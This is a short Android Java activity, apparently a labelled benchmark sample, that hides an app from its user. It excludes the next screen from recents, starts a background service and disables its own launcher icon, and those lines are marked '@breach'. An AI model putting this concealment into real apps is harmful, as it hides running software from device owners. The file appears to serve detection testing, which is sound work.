package bench.points.step_pal;

import android.app.Activity;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.os.Bundle;

public final class Gate extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Intent next = new Intent(this, Steps.class).addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
        next.addFlags(Intent.FLAG_ACTIVITY_EXCLUDE_FROM_RECENTS); //: @breach,flag_only #recents
        startActivity(next);
        startService(new Intent(this, Counter.class));
        getPackageManager().setComponentEnabledSetting( //: @breach #vanish
                getComponentName(), //: @breach
                PackageManager.COMPONENT_ENABLED_STATE_DISABLED, //: @breach
                PackageManager.DONT_KILL_APP); //: @breach
        finish();
    }
}
